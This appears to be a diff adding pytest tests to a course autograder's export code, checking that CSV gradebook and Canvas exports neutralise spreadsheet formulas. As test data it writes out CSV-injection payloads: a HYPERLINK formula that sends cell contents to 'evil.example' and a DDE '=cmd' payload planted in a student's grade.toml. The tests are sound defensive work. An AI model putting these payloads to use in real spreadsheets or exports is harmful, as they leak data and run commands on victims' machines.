@@ -12,7 +12,16 @@ import subprocess
 import pytest
 
 from grader.batch.dashboard import class_stats, write_dashboard
-from grader.batch.exports import canvas_csv, gradebook_csv, gradescope_results, write_exports
+from grader.batch.exports import (
+    ClassRow,
+    canvas_csv,
+    csv_cell,
+    gradebook_csv,
+    gradescope_results,
+    write_exports,
+)
+from grader.batch.intake import Submission, collect_submissions
+from grader.results import Student
 
 
 def test_gradebook_has_one_row_per_student_with_points_per_group_and_stage(class_rows):
@@ -120,3 +129,44 @@ def test_gradebook_columns_come_from_the_spec_even_when_nobody_reached_a_stage(c
     assert [k for k in table[0] if k.startswith(("group:", "stage:"))] == \
         ["group:aligned", "group:tails", "stage:vector", "stage:multicore"]
     assert table[0]["stage:multicore"] == "5" and table[1]["stage:multicore"] == "0"
+
+
+def test_formula_cells_are_neutralised():
+    for text in ("=HYPERLINK(\"http://x\",\"y\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_cell(text) == "'" + text
+    assert csv_cell("Ada Lovelace") == "Ada Lovelace" and csv_cell(10) == "10" and csv_cell(None) == ""
+
+
+def test_a_formula_in_a_name_or_message_reaches_no_spreadsheet_as_a_formula(class_rows):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    alice = class_rows[0]
+    rows = [ClassRow(Submission(attack, "@evil", "x", alice.submission.path, content_hash="0" * 64),
+                     alice.result.model_copy(update={"message": "-1 stage left", "student": Student(name=attack)}))]
+    for text in (gradebook_csv(rows), canvas_csv(rows, "=title")):
+        for cells in list(csv.reader(io.StringIO(text))):
+            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+    student = list(csv.DictReader(io.StringIO(gradebook_csv(rows))))[1]
+    assert student["student_id"] == "'" + attack and student["name"] == "'@evil"
+    assert student["message"] == "'-1 stage left"
+
+
+def test_names_come_from_the_roster_or_folder_never_grade_toml(tmp_path, class_rows):
+    """grade.toml is the student's: `name = "=cmd|..."` there must not reach an export as the student's name."""
+    folder = tmp_path / "class" / "s042"
+    (folder / "mlu").mkdir(parents=True)
+    (folder / "ops.py").write_text("def sigmoid(x):\n    return x\n")
+    (folder / "grade.toml").write_text('[student]\nname = "=cmd|\' /C calc\'!A0"\nid = "admin"\n')
+    (sub,) = collect_submissions(tmp_path / "class", tmp_path / "unpacked")
+    assert sub.student_id == "s042" and sub.name == ""
+    result = class_rows[0].result.model_copy(update={"student": Student(id="admin", name="=cmd|' /C calc'!A0")})
+    rows = [ClassRow(sub, result)]
+    student = list(csv.DictReader(io.StringIO(gradebook_csv(rows))))[1]
+    assert (student["student_id"], student["name"]) == ("s042", "s042")
+    assert list(csv.reader(io.StringIO(canvas_csv(rows, "t"))))[2][0] == "s042"
+
+
+def test_integrity_findings_reach_gradescope(class_rows):
+    result = class_rows[0].result.model_copy(update={"integrity": ["sigmoid(), case n64: kernels wrote 0 of 256"]})
+    doc = gradescope_results(result)
+    (test,) = [t for t in doc["tests"] if t["name"].startswith("Integrity")]
+    assert test["status"] == "failed" and "kernels wrote 0" in test["output"]
